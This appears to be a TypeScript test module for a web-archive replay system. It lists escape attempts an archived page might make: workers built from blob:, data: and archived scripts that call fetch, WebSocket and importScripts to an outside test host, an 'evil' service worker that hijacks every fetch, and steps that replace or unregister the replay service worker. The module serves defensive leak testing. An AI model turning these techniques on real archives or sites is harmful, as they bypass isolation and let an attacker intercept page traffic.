import type { Env, Technique } from './page-kit.ts'

/** What a worker of the page tries, posted back (dedicated: postMessage; shared: its port). */
const workerBody = (env: Env, id: string, label: string): string => `
const T = (p) => ${JSON.stringify(env.out)} + '/t/${id}/${label}-' + p; const out = [];
const go = async (n, f) => { try { out.push([n, 'ran', String(await Promise.race([f(), new Promise((_, no) => setTimeout(() => no(new Error('no answer')), 1500))]))]) } catch (e) { out.push([n, 'threw', String(e && e.name) + ': ' + String(e && e.message)]) } };
const run = (async () => {
  await go('fetch', () => fetch(T('fetch')).then(r => r.status));
  await go('WebSocket', () => new Promise((ok, no) => { const s = new WebSocket(${JSON.stringify(env.ws)} + '/t/${id}/${label}'); s.onopen = () => ok('open'); s.onerror = () => no(new Error('error event')) }));
  await go('importScripts', () => { importScripts(T('import.js')); return 'imported' });
  return out;
})();
if (typeof onconnect !== 'undefined' || self.constructor.name === 'SharedWorkerGlobalScope') onconnect = (e) => { run.then(o => e.ports[0].postMessage({ worker: ${JSON.stringify(label)}, out: o })) };
else run.then(o => postMessage({ worker: ${JSON.stringify(label)}, out: o }));`

/** Starts a worker and records its report, one step per attempt. */
const fromWorker = (label: string, make: string, shared = false): string => `
await step('${label}', async () => {
  const w = ${make};
  const r = await within(new Promise((ok, no) => { const port = ${shared ? 'w.port' : 'w'}; port.onmessage = (e) => ok(e.data); w.onerror = (e) => no(new Error('worker error: ' + (e.message || 'no script'))); ${shared ? 'port.start();' : ''} }), 5000);
  for (const s of r.out) steps.push(['${label}: ' + s[0], s[1], s[2]]);
  return 'reported'
}, 6000)`

/** The attacker's own service worker script, archived: what it would do if it ever ran. */
const evilServiceWorker = (env: Env): string => `
self.addEventListener('install', (e) => { e.waitUntil(fetch(${JSON.stringify(env.out)} + '/t/sw-register/install').catch(() => {})); self.skipWaiting() });
self.addEventListener('activate', (e) => { e.waitUntil(clients.claim()) });
self.addEventListener('fetch', (e) => { e.respondWith(fetch(${JSON.stringify(env.out)} + '/t/sw-register/fetch').catch(() => fetch(e.request))) });`

/** Workers of every kind, and service worker registrations of the attacker's own. */
export const workerAttacks: Technique[] = [
  {
    id: 'blob-worker',
    what: 'a dedicated Worker from a blob: URL calling fetch, WebSocket, importScripts to the outside',
    script: env => fromWorker('blob worker', `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(workerBody(env, 'blob-worker', 'blob'))}], { type: 'text/javascript' })))`)
  },
  {
    id: 'data-worker',
    what: 'a dedicated Worker from a data: URL (opaque origin) calling fetch, WebSocket, importScripts',
    script: env => fromWorker('data worker', `new Worker('data:text/javascript,' + encodeURIComponent(${JSON.stringify(workerBody(env, 'data-worker', 'data'))}))`)
  },
  {
    id: 'archive-worker',
    what: 'a dedicated Worker whose script is archived (a URI-M, no client script) calling fetch, WebSocket, importScripts',
    extra: env => [{ path: '/t/archive-worker/worker.js', contentType: 'text/javascript', body: workerBody(env, 'archive-worker', 'archived') }],
    script: () => fromWorker('archived worker', 'new Worker(urim(\'/t/archive-worker/worker.js\', \'js_\'))')
  },
  {
    id: 'shared-worker',
    what: 'SharedWorkers from a blob: URL and from an archived script calling fetch, WebSocket, importScripts',
    extra: env => [{ path: '/t/shared-worker/shared.js', contentType: 'text/javascript', body: workerBody(env, 'shared-worker', 'archived') }],
    script: env => fromWorker('blob shared worker', `new SharedWorker(URL.createObjectURL(new Blob([${JSON.stringify(workerBody(env, 'shared-worker', 'blob'))}], { type: 'text/javascript' })))`, true) +
      fromWorker('archived shared worker', 'new SharedWorker(urim(\'/t/shared-worker/shared.js\', \'js_\'))', true)
  },
  {
    id: 'sw-register',
    what: 'navigator.serviceWorker.register of an archived script (URI-M, plain and id_), hooked and through a fresh realm\'s register',
    extra: env => [{ path: '/t/sw-register/sw.js', contentType: 'text/javascript', body: evilServiceWorker(env) }],
    script: () => `
const reg = realm().ServiceWorkerContainer.prototype.register
await step('register (hooked)', () => navigator.serviceWorker.register(urim('/t/sw-register/sw.js', 'js_')).then(r => r.scope))
await step('fresh realm register js_', () => reg.call(navigator.serviceWorker, urim('/t/sw-register/sw.js', 'js_')).then(r => r.scope))
await step('fresh realm register id_', () => reg.call(navigator.serviceWorker, urim('/t/sw-register/sw.js', 'id_')).then(r => r.scope))
await step('fresh realm register, scope /', () => reg.call(navigator.serviceWorker, urim('/t/sw-register/sw.js', 'id_'), { scope: '/' }).then(r => r.scope))
await step('fresh realm own container', () => realm().navigator.serviceWorker.register(urim('/t/sw-register/sw.js', 'id_') + '?realm').then(r => r.scope))`
  },
  {
    id: 'sw-replace',
    what: 'registering /sw.js with a query (replaces the replay worker\'s registration), and update()',
    script: () => `
const reg = realm().ServiceWorkerContainer.prototype.register
await step('register /sw.js?hostile', () => reg.call(navigator.serviceWorker, '/sw.js?hostile=' + encodeURIComponent(OUT), { scope: '/', type: 'module' }).then(r => r.scope))
await step('registration.update()', () => navigator.serviceWorker.getRegistration('/').then(r => r ? r.update().then(() => 'updated') : 'none'))
await step('scripts now', () => navigator.serviceWorker.getRegistrations().then(rs => rs.map(r => (r.active || r.waiting || r.installing || {}).scriptURL).join(' ')))`
  },
  {
    id: 'sw-unregister',
    what: 'unregistering every service worker, then loading a second page (served by the node itself if the worker is gone: no rewriting, no replay CSP)',
    navigates: true,
    script: () => `
await step('getRegistrations', () => navigator.serviceWorker.getRegistrations().then(rs => rs.length))
await step('unregister all', () => navigator.serviceWorker.getRegistrations().then(rs => Promise.all(rs.map(r => r.unregister()))).then(a => a.join(',')))
report(false)
await step('go to stage 2', () => { window['loc' + 'ation'].replace(urim('/t/sw-unregister/stage2')); return 'navigating' })`,
    stage2: () => `
await step('controlled by a worker', () => String(navigator.serviceWorker.controller != null))
await step('fetch', () => fetch(tag('stage2')).then(r => r.status))
await step('img', () => { const i = new Image(); const p = loaded(i); i.src = tag('img'); return p })`
  }
]
